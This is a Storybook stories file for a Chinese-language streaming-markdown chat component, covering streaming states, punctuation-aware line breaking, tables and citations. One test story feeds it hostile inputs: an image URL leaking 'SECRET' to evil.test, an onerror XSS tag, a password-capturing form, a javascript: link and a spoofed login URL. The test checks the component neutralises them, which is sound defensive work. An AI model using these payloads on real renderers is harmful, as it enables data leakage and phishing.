import { DoDont } from '@hengce/storybook/DoDont';
import preview from '@hengce/storybook/preview';
import { useEffect, useState } from 'react';
import { expect, fn, waitFor } from 'storybook/test';
import { storyAnswer } from '../../testing/storyAnswer';
import { storyReply, storySources } from '../../testing/storyChat';
import { Button } from '../Button';
import { Citation, type CitationSource } from '../Citation';
import { StreamingMarkdown } from './StreamingMarkdown';
import { createTextStream } from './stream/textStream';
import { useStreamedText } from './stream/useStreamedText';

const meta = preview.meta({
  id: 'ui-streaming-markdown',
  title: 'AI/StreamingMarkdown 流式正文',
  component: StreamingMarkdown,
  args: { text: storyReply, citations: storySources },
  decorators: [(Story) => <div style={{ maxWidth: 600 }}>{Story()}</div>],
});
export default meta;

export const Example = meta.story({ name: '示例' });

const column = { display: 'grid', gap: 24 } as const;
const label = { font: '400 12px/18px var(--hc-font-sans)', color: 'var(--hc-color-text-muted)' } as const;
const states = [
  ['还没有字', '', true],
  ['正在写粗体', '**预计可得后补助61.44', true],
  ['正在写链接', '办理入口见[云澜市科技计划', true],
  ['正在写表格', storyReply.slice(0, 190), true],
  ['正在写代码', '```text\n补助 = 500 × 6%', true],
  [
    '写完',
    '**预计可得后补助61.44万元**，办理入口见[云澜市科技计划管理系统](https://kjjh.example.gov.cn/apply)。',
    false,
  ],
] as const;

export const States = meta.story({
  name: '状态',
  render: () => (
    <div style={column}>
      {states.map(([name, text, isStreaming]) => (
        <div key={name}>
          <div style={label}>{name}</div>
          <StreamingMarkdown text={text} isStreaming={isStreaming} />
        </div>
      ))}
      <div>
        <div style={label}>思考</div>
        <StreamingMarkdown voice="thinking" isStreaming text="先核对第七条分段比例，再看年度上限" />
      </div>
    </div>
  ),
});

function Live({ onDone }: { onDone?: () => void }) {
  const [stream] = useState(() => createTextStream());
  const { text, isStreaming } = useStreamedText(stream);
  useEffect(() => {
    const timer = setInterval(() => {
      const length = stream.getText().length;
      if (length < storyReply.length) return void stream.append(storyReply.slice(length, length + 6));
      clearInterval(timer);
      stream.finish();
    }, 16);
    return () => clearInterval(timer);
  }, [stream]);
  useEffect(() => {
    if (!isStreaming) onDone?.();
  }, [isStreaming, onDone]);
  return <StreamingMarkdown text={text} isStreaming={isStreaming} citations={storySources} />;
}

function Replay() {
  const [run, setRun] = useState(0);
  return (
    <div style={column}>
      <div>
        <Button onPress={() => setRun(run + 1)}>重新播放</Button>
      </div>
      <Live key={run} />
    </div>
  );
}
export const Streaming = meta.story({
  name: '一边写一边显示，写完与一次给出的一样',
  render: () => <Replay />,
  play: async ({ canvas }) => {
    await waitFor(() => expect(canvas.getByText(/作为上限安排资金计划/)).toBeVisible(), { timeout: 20_000 });
    await expect(canvas.getAllByRole('button', { name: /^引用/ })).toHaveLength(3);
  },
});

export const Chinese = meta.story({
  name: '中文标点旁的粗体、删除线与范围',
  args: {
    text: '**申报截止时间：**2026年12月31日。\n\n按**“专精特新”**认定的企业，**（含）**以下部分按*6%*给予补助，~~此前的5%不再执行~~；期限3~5年，比例10%~20%。',
  },
});

export const LineEnds = meta.story({
  name: '不论多宽：编号和它后面的标点不在行首，数与单位不拆开',
  args: {
    text: '研发费用加计扣除，1,286万元×100%×15%＝192.9万元[^1]；税率按15%，因为企业资料里写着**“高新技术企业：是”**[^2]。还有1,286万元[^3]',
    citations: storySources,
  },
  play: async ({ canvas, canvasElement }) => {
    const box = canvasElement.querySelector('p')?.parentElement as HTMLElement;
    const leftOf = (node: Node, from: number) => {
      const range = document.createRange();
      range.setStart(node, from);
      range.setEnd(node, from + 1);
      return range.getBoundingClientRect();
    };
    const buttons = canvas.getAllByRole('button', { name: /^引用/ });
    const faults: string[] = [];
    for (let width = 160; width <= 420; width += 3) {
      box.style.width = `${width}px`;
      const start = box.getBoundingClientRect().left + 8;
      if (buttons.some((button) => button.getBoundingClientRect().left < start)) faults.push(`${width}编号`);
      const texts = document.createTreeWalker(box, NodeFilter.SHOW_TEXT);
      for (let node = texts.nextNode(); node; node = texts.nextNode()) {
        const words = node.textContent ?? '';
        if (/^[；。]/.test(words) && leftOf(node, 0).left < start) faults.push(`${width}标点`);
        const unit = words.search(/(?<=\d)[万%]/);
        if (unit > 0 && leftOf(node, unit).top > leftOf(node, unit - 1).top + 8) faults.push(`${width}单位`);
      }
    }
    await expect(faults).toEqual([]);
    box.style.width = '';
  },
});

export const Blocks = meta.story({
  name: '标题、列表、待办、引文、代码与分隔线',
  args: { text: storyAnswer(100), citations: storySources },
});

export const WideTable = meta.story({
  name: '表格比正文宽时在自己的框里滚动，可以用键盘',
  render: () => (
    <div style={{ width: 320 }}>
      <StreamingMarkdown
        text={
          '| 地区 | 政策名称 | 发文字号 | 最高金额 | 截止 |\n|---|---|---|---:|---|\n| 云澜市 | 企业研发费用后补助实施细则 | 云科规〔2026〕5号 | 200万元 | 12月31日 |\n| 澄湖区 | 支持科技型企业加大研发投入若干措施 | 澄政办发〔2026〕14号 | 50万元 | 常年 |'
        }
      />
    </div>
  ),
  play: async ({ canvas, userEvent }) => {
    const box = await canvas.findByRole('group', { name: '表格' });
    await userEvent.tab();
    await expect(box).toHaveFocus();
  },
});

const payloads = [
  '![图](http://evil.test/p.png?leak=SECRET)',
  '<img src="http://evil.test/p.png" onerror="alert(1)">',
  '<div style="background:url(http://evil.test/p.png)">x</div>',
  '<form action="http://evil.test"><input type="password"></form>',
  '[点这里](javascript:alert(1))',
  '[国家税务总局](https://www.chinatax.gov.cn@evil.test/login)',
  'https://evil.test/p?q=1，见上',
];
export const Hostile = meta.story({
  name: '恶意内容：不请求外部图片，HTML是文字，链接写明去向',
  args: { text: payloads.join('\n\n') },
  play: async ({ canvasElement }) => {
    await expect(canvasElement.querySelector('img, form, input')).toBeNull();
    for (const link of canvasElement.querySelectorAll('a')) {
      await expect(link).toHaveAttribute('rel', 'noopener noreferrer nofollow');
      await expect(link.protocol).toBe(link.href.startsWith('https') ? 'https:' : 'http:');
    }
  },
});

export const OwnCitation = meta.story({
  name: '编号怎样画由宿主决定：正在看的一条实心',
  args: { renderCitation: (source) => <Citation source={source} isActive={source.id === '1'} onPress={fn()} /> },
});

const manySources = Array.from({ length: 21 }, (_, i) => ({
  ...(storySources[i % 3] as CitationSource),
  id: `${i + 1}`,
  label: `${i + 1}`,
}));
const manyMarkers = manySources.map(({ id }) => `[^${id}]`).join('');

export const ManyCitations = meta.story({
  name: '一句话有许多出处：先列三处，其余按下展开，焦点到第四处，可以收起',
  args: {
    text: `须同时满足各项条件${manyMarkers}，三处的都列出[^1][^2][^3]。\n\n| 条件 | 依据 |\n|---|---|\n| 科技人员占比 | 不低于10%${manyMarkers} |`,
    citations: manySources,
  },
  play: async ({ canvas, userEvent }) => {
    const [more] = await canvas.findAllByRole('button', { name: '等21处引用' });
    await expect(canvas.getAllByRole('button', { name: /^引用/ })).toHaveLength(9);
    await expect(more).toHaveAttribute('aria-expanded', 'false');
    for (let n = 0; n < 4; n++) await userEvent.tab();
    await expect(more).toHaveFocus();
    await userEvent.keyboard('{Enter}');
    await expect(canvas.getAllByRole('button', { name: /^引用/ })).toHaveLength(27);
    await expect(canvas.getAllByRole('button', { name: /^引用4：/ })[0]).toHaveFocus();
    const fewer = canvas.getByRole('button', { name: '收起引用' });
    await expect(fewer).toHaveAttribute('aria-expanded', 'true');
    await userEvent.click(fewer);
    await expect(canvas.getAllByRole('button', { name: /^引用/ })).toHaveLength(9);
    await userEvent.click(canvas.getAllByRole('button', { name: '等21处引用' })[1] as HTMLElement);
    await expect(canvas.getAllByRole('button', { name: /^引用/ })).toHaveLength(27);
  },
});

export const UnknownCitation = meta.story({
  name: '没有来源的标记不显示编号，文号里的年份不受影响',
  args: { text: '补助按分段计算[^1]，另有说法[^9]，见云科规〔2026〕5号，上限见〔2〕。' },
});

export const Long = meta.story({ name: '很长的回答', args: { text: storyAnswer(5000), citations: storySources } });

export const Keyboard = meta.story({
  name: '只用键盘：依次到达编号与链接，编号上看得到原话，复制代码',
  args: { text: '计算[^1]，见[办理入口](https://kjjh.example.gov.cn)。\n\n```\n500 × 6%\n```' },
  play: async ({ canvas, userEvent }) => {
    await userEvent.tab();
    await expect(canvas.getByRole('button', { name: '引用1：云科规〔2026〕5号第七条' })).toHaveFocus();
    await expect(await canvas.findByRole('tooltip')).toHaveTextContent('按6%给予补助');
    await userEvent.tab();
    await expect(canvas.getByRole('link', { name: /办理入口/ })).toHaveFocus();
    await userEvent.tab();
    await expect(canvas.getByRole('button', { name: '复制代码' })).toHaveFocus();
    await userEvent.keyboard('{Enter}');
    await expect(await canvas.findByRole('button', { name: /复制成功|复制失败/ })).toHaveFocus();
  },
});

export const Choices = meta.story({
  name: '可以与不要',
  render: () => (
    <DoDont
      isWide
      pairs={[
        {
          right: (
            <StreamingMarkdown
              text={'预计可以得到**61.44万元**。\n\n- 500万元以内按6%，30万元\n- 以上786万元按4%，31.44万元'}
            />
          ),
          why: '先说结论，再列怎么算的',
          wrong: (
            <StreamingMarkdown
              text={
                '# 非常好的问题！\n\n作为您的专属AI助手，我很高兴为您解答。让我们一步一步来分析：首先，补助与研发费用有关……'
              }
            />
          ),
          whyNot: '客套占了第一屏；标题比页面的还大',
        },
      ]}
    />
  ),
});
